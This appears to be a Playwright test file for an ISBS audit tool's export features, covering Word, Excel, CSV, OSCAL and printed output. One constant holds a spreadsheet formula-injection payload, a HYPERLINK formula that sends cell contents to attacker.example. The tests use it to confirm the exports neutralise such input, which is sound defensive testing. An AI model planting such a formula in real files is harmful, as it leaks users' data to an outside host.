// The audit's download bar: Word, Excel and CSV made by the office module (a second wasm
// module in a Worker, fetched only on the first export), each file re-opened by an
// independent reader (python-docx, openpyxl; tests/office/read.py); the same from the
// single file opened from disk, where the worker's code is inline.
import { test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFile, writeFile, mkdir } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { ROOT, SHOTS, createProgramme, newPage, startAudit, shot, signIn, suite } from "./harness.mjs";

const env = suite();
const PYTHON = join(ROOT, "target/venv/bin/python");
const INJECTION = '=HYPERLINK("http://attacker.example/?x="&A1,"click")';
const NAME = /^Backup-review_(report|registers|findings|corrective-actions|checklist)_draft\.(docx|xlsx|csv)$/;

async function downloaded(page, button) {
  const waiting = page.waitForEvent("download");
  await page.locator(button).click();
  const file = await waiting;
  const bytes = Buffer.concat(await (await file.createReadStream()).toArray());
  await mkdir(join(SHOTS, "exports"), { recursive: true });
  const path = join(SHOTS, "exports", file.suggestedFilename());
  await writeFile(path, bytes);
  return { name: file.suggestedFilename(), path, bytes };
}

function read(path) {
  return JSON.parse(execFileSync(PYTHON, [join(ROOT, "tests/office/read.py"), path], { encoding: "utf8" }));
}

/** A started audit with two findings, one of them a formula and markup. */
async function fixtureAudit(page) {
  await signIn(page, "Lee Lead");
  await createProgramme(page, { name: "Export programme", start: "2027-01-01", end: "2027-12-31", owner: "Lee Lead" });
  await startAudit(page, { title: "Backup review", auditee: "Example GmbH", start: "2027-05-03", end: "2027-05-04", controls: ["A.8.13"] });
  for (const [id, result] of [["9.1", "conforming"], ["A.8.13", "nonconforming"]]) {
    await page.locator(`[id="result-${id}"]`).selectOption(result);
    await page.locator(`tr[data-criterion="${id}"].result-${result}`).waitFor();
  }
  await page.locator('tr[data-criterion="A.8.13"]').getByRole("button", { name: "Add finding against A.8.13" }).click();
  await page.locator("#grade").selectOption("major_nonconformity");
  await page.locator("#statement").fill("No restore test has ever been performed <b>for</b> the ERP & CRM databases.");
  await page.locator("#evidence").fill("Backup runbook rev 4.\nInterview with the backup administrator.");
  await page.locator("#date").fill("2027-05-03");
  await page.locator("#finding-form").getByRole("button", { name: "Add finding" }).click();
  await page.locator("#findings").getByText("F-001").waitFor();
  await page.getByRole("button", { name: "Add finding", exact: true }).click();
  await page.locator("#grade").selectOption("observation");
  await page.locator("#criterionId").selectOption("9.2.2");
  await page.locator("#statement").fill(INJECTION);
  await page.locator("#evidence").fill("Audit programme v3.");
  await page.locator("#finding-form").getByRole("button", { name: "Add finding" }).click();
  await page.locator("#findings").getByText("F-002").waitFor();
}

test("the download bar writes Word, Excel and CSV in a worker, and readers open them", async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const page = await newPage(context);
  try {
    await page.goto(env.server.url);
    await fixtureAudit(page);
    assert.ok(!env.server.requests.some((r) => r.includes("office-worker")), "the office module is not loaded before the first export");
    await page.locator("#classification").fill("Restricted");
    await page.locator("#classification").press("Tab");
    await page.locator("#export-status").getByText("now marked Restricted").waitFor();

    const word = await downloaded(page, "#export-docx");
    assert.match(word.name, NAME);
    assert.ok(env.server.requests.some((r) => r.includes("office-worker.js")), "the first export loads the office module");
    await page.locator("#export-status").getByText(/is ready/).waitFor();
    await shot(page.locator("audit-exports"), "40-export-bar", { fullPage: false });
    const d = read(word.path);
    const h1 = d.headings.filter((h) => h.style === "Heading 1").map((h) => h.text);
    for (const h of ["Executive summary", "The audit", "Findings", "Internal indicators", "Appendix: checklist"]) assert.ok(h1.includes(h), `heading ${h} in ${h1}`);
    assert.deepEqual(d.headings[0], { style: "Title", text: "Backup review" });
    assert.equal(d.outline_levels["Heading 1"], 0);
    assert.match(d.header, /Backup review · Restricted · DRAFT/);
    assert.deepEqual(d.footer_fields, ["PAGE", "NUMPAGES"]);
    assert.ok(d.images >= 1, "the charts are images");
    const findings = d.tables.find((t) => t[0][0] === "Ref.");
    assert.deepEqual(findings[0], ["Ref.", "Grade", "Criteria", "Statement", "Evidence", "Date", "Risk"]);
    assert.equal(findings[1][0], "F-001");
    assert.equal(findings[1][3], "No restore test has ever been performed <b>for</b> the ERP & CRM databases.");
    assert.equal(findings[1][4], "Backup runbook rev 4.\nInterview with the backup administrator.");
    assert.equal(findings[2][3], INJECTION);
    const checklist = d.tables.at(-1);
    assert.deepEqual(checklist[0], ["Criterion", "Title", "Result", "Findings", "Notes"]);
    assert.ok(checklist.some((r) => r[0] === "A.8.13" && r[3] === "F-001"));

    const excel = await downloaded(page, "#export-xlsx");
    assert.match(excel.name, NAME);
    const x = read(excel.path);
    assert.deepEqual(x.order, ["Findings", "Corrective actions", "Checklist"]);
    const f = x.sheets.Findings;
    assert.equal(f.freeze, "A2");
    assert.equal(f.filter, "A1:I3");
    assert.equal(f.widths.D, 50.7);
    assert.deepEqual(f.rows[1][0], { type: "string", value: "F-001" });
    assert.deepEqual(f.rows[1][5], { type: "date", value: "2027-05-03" });
    const injected = f.rows.find((r) => r[3].value === INJECTION)[3];
    assert.equal(injected.type, "string", "a formula-like statement stays a string");
    assert.equal(x.sheets["Corrective actions"].rows.length, 1, "no actions before follow-up: the header only");
    assert.ok(x.sheets.Checklist.rows.some((r) => r[0].value === "A.8.13" && r[2].value === "major nonconformity"));

    const csv = await downloaded(page, "#export-csv-findings");
    assert.equal(csv.name, "Backup-review_findings_draft.csv");
    assert.deepEqual([...csv.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 with BOM");
    const text = csv.bytes.toString("utf8");
    assert.ok(text.includes(`"'${INJECTION.replaceAll('"', '""')}"`), "the formula guard quotes and prefixes it");
    assert.ok(text.includes('"Backup runbook rev 4.\nInterview with the backup administrator."'));
    for (const kind of ["corrective-actions", "checklist"]) {
      assert.equal((await downloaded(page, `#export-csv-${kind}`)).name, `Backup-review_${kind}_draft.csv`);
    }

    // OSCAL: the plan and the results validate against the official schema; with no
    // corrective action yet, the POA&M is refused with a reason.
    const oscal = [];
    for (const doc of ["ap", "ar"]) {
      const file = await downloaded(page, `#export-oscal-${doc}`);
      assert.equal(file.name, `Backup-review_oscal-${doc}_draft.json`);
      oscal.push(file.path);
    }
    execFileSync(PYTHON, [join(ROOT, "tests/office/validate_oscal.py"), join(ROOT, "../shared/reference/oscal/oscal_complete_schema-1-1-3.json"), ...oscal]);
    const ar = JSON.parse(await readFile(oscal[1], "utf8"))["assessment-results"];
    assert.deepEqual(ar.results[0].findings.map((f) => f.target["target-id"]), ["a.8.13", "c.9.2.2"]);
    const again = await downloaded(page, "#export-oscal-ar");
    assert.deepEqual(await readFile(again.path), await readFile(oscal[1]), "re-export is byte-identical");
    await page.locator("#export-oscal-poam").click();
    await page.locator('#export-status[role="alert"]').getByText("no open corrective action").waitFor();

    // The blank checklist prints on A4 and Letter, guidance and boxes included.
    const blank = await downloaded(page, "#export-print-checklist");
    assert.equal(blank.name, "Backup-review_blank-checklist_draft.html");
    const viewer = await context.newPage();
    await viewer.goto(pathToFileURL(blank.path).href);
    for (const format of ["A4", "Letter"]) {
      const pdf = join(SHOTS, `blank-checklist-${format}.pdf`);
      await writeFile(pdf, await viewer.pdf({ format }));
      const text = execFileSync("pdftotext", ["-layout", pdf, "-"], { encoding: "utf8" });
      assert.match(text, /Backup review: checklist/);
      assert.match(text, /A\.8\.13 Information backup/);
      assert.match(text, /Examine/);
      assert.match(text, /Interview/);
      assert.match(text, /conforming\s+nonconforming\s+not applicable/);
      const size = /Page size:\s+([\d.]+) x ([\d.]+)/.exec(execFileSync("pdfinfo", [pdf], { encoding: "utf8" }));
      assert.ok(Math.abs(Number(size[1]) - (format === "A4" ? 595.3 : 612)) < 1.5, `${format} page width ${size[1]} pt`);
      execFileSync("pdftoppm", ["-png", "-r", "50", "-f", "1", "-l", "1", pdf, join(SHOTS, `41-blank-checklist-${format}`)]);
    }
    // The report prints on Letter too (the report test prints it on A4).
    const report = await downloaded(page, "#export-html");
    assert.equal(report.name, "Backup-review_report_draft.html");
    await viewer.goto(pathToFileURL(report.path).href);
    const letter = join(SHOTS, "report-Letter.pdf");
    await writeFile(letter, await viewer.pdf({ format: "Letter", printBackground: true }));
    const printed = execFileSync("pdftotext", ["-layout", letter, "-"], { encoding: "utf8" });
    assert.match(printed, /DRAFT/);
    assert.match(printed, /F-001/);
    assert.match(execFileSync("pdfinfo", [letter], { encoding: "utf8" }), /Page size:\s+612 x 792/);
    await viewer.close();

    // The programme's bar: the programme report as Word.
    await page.getByRole("button", { name: "Export programme", exact: true }).click();
    const programme = await downloaded(page, "#export-programme-docx");
    assert.match(programme.name, /^Export-programme_programme-report_\d{4}-\d{2}-\d{2}\.docx$/);
    const p = read(programme.path);
    assert.deepEqual(p.headings.map((h) => h.text), ["Export programme", "Purpose and objectives", "Audits", "Monitoring", "Auditor competence due", "Open corrective actions"]);
    assert.equal(p.tables[0][1][0], "Backup review");
    await shot(page, "42-programme-export-bar", { fullPage: false });
    assert.deepEqual(page.problems, []);
  } finally {
    await context.close();
  }
});

/** The audit's team and a plan of two sessions, entered on the conduct page. */
async function planSessions(page) {
  await page.locator("#conduct-link").click();
  await page.locator("#tab-team").click();
  await page.locator("#member-0-name").fill("Lee Lead");
  await page.locator("#member-0-role").selectOption("lead_auditor");
  await page.locator("#member-1-name").fill("Ann Auditor");
  await page.getByRole("button", { name: "Save team" }).click();
  await page.locator("#member-2-name").waitFor();
  await page.locator("#tab-plan").click();
  for (const [activity, start, end, criteria, team] of [
    ["Backup and restore interview", "10:30", "12:00", ["A.8.13"], [1]],
    ["Internal audit programme review", "09:00", "10:00", ["9.2.2"], [0, 1]],
  ]) {
    await page.getByRole("button", { name: "Add session" }).click();
    await page.locator("#activity").fill(activity);
    await page.locator("#date").fill("2027-05-03");
    await page.locator("#start").fill(start);
    await page.locator("#end").fill(end);
    await page.locator("#criteria").selectOption(criteria);
    for (let n = 0; n < 2; n++) await page.locator(`#auditor-${n}`).setChecked(team.includes(n));
    await page.getByRole("button", { name: "Save session" }).click();
    await page.getByRole("button", { name: "Add session" }).waitFor();
  }
  await page.locator("#back-to-audit").click();
  await page.locator("audit-exports").waitFor();
}

test("the audit plan as Word and printed on A4 and Letter, the conduct records in the report, one stored classification, no long task", { timeout: 240_000 }, async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const page = await newPage(context);
  try {
    await page.goto(env.server.url);
    await fixtureAudit(page);
    await planSessions(page);

    // The classification is stored with the audit: it survives a reload and marks
    // every file. A marking on two lines is refused, and the stored one stays.
    await page.locator("#classification").fill("TLP:AMBER");
    await page.locator("#classification").press("Tab");
    await page.locator("#export-status").getByText("now marked TLP:AMBER").waitFor();
    await page.reload();
    await page.locator("audit-exports").waitFor();
    assert.equal(await page.locator("#classification").inputValue(), "TLP:AMBER");
    await page.locator("#classification").fill("x".repeat(41));
    await page.locator("#classification").press("Tab");
    await page.locator('#export-status[role="alert"]').getByText("at most 40").waitFor();
    assert.equal(await page.locator("#classification").inputValue(), "TLP:AMBER");
    // The report card has no download buttons of its own any more.
    assert.equal(await page.locator("audit-report button[id^=download-]").count(), 0);

    // Every export from here on: no task on the page's thread over 50 ms.
    await page.evaluate(() => {
      window.longTasks = [];
      new PerformanceObserver((list) => list.getEntries().forEach((e) => window.longTasks.push(Math.round(e.duration)))).observe({ type: "longtask" });
    });

    const plan = await downloaded(page, "#export-plan-docx");
    assert.equal(plan.name, "Backup-review_plan_draft.docx");
    const d = read(plan.path);
    assert.deepEqual(d.headings.map((h) => h.text), ["Audit plan: Backup review", "The audit", "Audit team", "Agenda", "Acceptance"]);
    assert.equal(d.header, "Audit plan: Backup review · TLP:AMBER");
    const agenda = d.tables.find((t) => t[0][0] === "Date");
    assert.deepEqual(agenda.slice(1).map((r) => [r[1], r[2], r[6]]), [
      ["09:00–10:00", "Internal audit programme review", "Lee Lead, Ann Auditor"],
      ["10:30–12:00", "Backup and restore interview", "Ann Auditor"],
    ]);
    assert.deepEqual(d.tables.find((t) => t[0][0] === "Name").slice(1).map((r) => r.slice(0, 2)), [["Lee Lead", "lead auditor"], ["Ann Auditor", "auditor"]]);

    const word = read((await downloaded(page, "#export-docx")).path);
    assert.match(word.header, /Backup review · TLP:AMBER · DRAFT/);
    const h2 = word.headings.filter((h) => h.style === "Heading 2").map((h) => h.text);
    for (const h of ["Initiation", "Audit team", "Audit plan", "Opening meeting", "Communication log", "Information not obtained"]) assert.ok(h2.includes(h), `${h} in ${h2}`);
    assert.ok(word.tables.some((t) => t[0][0] === "Date" && t.some((r) => r[2] === "Backup and restore interview")));

    const ap = JSON.parse((await downloaded(page, "#export-oscal-ap")).bytes.toString("utf8"))["assessment-plan"];
    assert.deepEqual(ap.tasks[0].tasks.map((t) => t.title), ["Internal audit programme review", "Backup and restore interview"]);
    assert.deepEqual(ap.metadata.parties.map((p) => p.name), ["Lee Lead", "Ann Auditor"]);

    const htmlReport = (await downloaded(page, "#export-html")).bytes.toString("utf8");
    assert.match(htmlReport, /<h2>3\. Conduct of the audit<\/h2>/);
    assert.match(htmlReport, /id="classification">TLP:AMBER</);
    const markdown = (await downloaded(page, "#export-md")).bytes.toString("utf8");
    assert.match(markdown, /Classification: \*\*TLP:AMBER\*\*/);
    assert.match(markdown, /\| 2027-05-03 \| 10:30–12:00 \| Backup and restore interview \|/);
    await new Promise((ok) => setTimeout(ok, 200));
    const longTasks = await page.evaluate(() => window.longTasks);
    assert.deepEqual(longTasks, [], `page tasks over 50 ms during the exports: ${longTasks.join(", ")} ms`);
    await shot(page.locator("audit-exports"), "43-export-bar-plan", { fullPage: false });

    // The printable plan on A4 and Letter: every session whole, with its last column.
    await page.locator("#export-plan-print").click();
    await page.getByRole("heading", { name: "Audit plan: Backup review" }).waitFor();
    await page.emulateMedia({ media: "print" });
    for (const format of ["A4", "Letter"]) {
      const pdf = join(SHOTS, `plan-${format}.pdf`);
      await writeFile(pdf, await page.pdf({ format, printBackground: true }));
      const text = execFileSync("pdftotext", ["-layout", pdf, "-"], { encoding: "utf8" });
      // Cells wrap at these widths: each session is checked by words that stay on one line.
      for (const expected of ["Audit plan: Backup review", "TLP:AMBER", "Auditees", "Criteria", "Audit team", "09:00–10:00", "10:30–12:00", "Internal audit", "Backup and", "9.2.2", "A.8.13", "Lee Lead,", "Accepted for the auditee by:"]) {
        assert.ok(text.includes(expected), `${format}: the printed plan says "${expected}"`);
      }
      assert.ok(!text.includes("Printable plan") && !text.includes("Back to the plan") && !text.includes("Downloads"), "no buttons or navigation on paper");
      assert.equal(text.match(/\bAnn\b/g).length, 3, `${format}: the team line and both sessions' last column`);
      const info = execFileSync("pdfinfo", [pdf], { encoding: "utf8" });
      const size = /Page size:\s+([\d.]+) x ([\d.]+)/.exec(info);
      assert.ok(Math.abs(Number(size[1]) - (format === "A4" ? 595.3 : 612)) < 1.5, `${format} page width ${size[1]} pt`);
      assert.equal(Number(/Pages:\s+(\d+)/.exec(info)[1]), 1, `${format}: the plan fits one page`);
      execFileSync("pdftoppm", ["-png", "-r", "60", "-f", "1", "-l", "1", pdf, join(SHOTS, `44-plan-${format}`)]);
    }
    await page.emulateMedia({ media: "screen" });
    assert.deepEqual(page.problems, []);
  } finally {
    await context.close();
  }
});

test("the single file, opened from disk, runs the office module from its inline worker", async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const page = await newPage(context);
  try {
    await page.goto(pathToFileURL(join(ROOT, "www/dist/isms-audit.html")).href);
    await fixtureAudit(page);
    const word = await downloaded(page, "#export-docx");
    assert.ok(read(word.path).headings.some((h) => h.text === "Findings"));
    const excel = await downloaded(page, "#export-xlsx");
    assert.equal(read(excel.path).sheets.Findings.rows.length, 3);
    assert.deepEqual(page.problems, []);
  } finally {
    await context.close();
  }
});
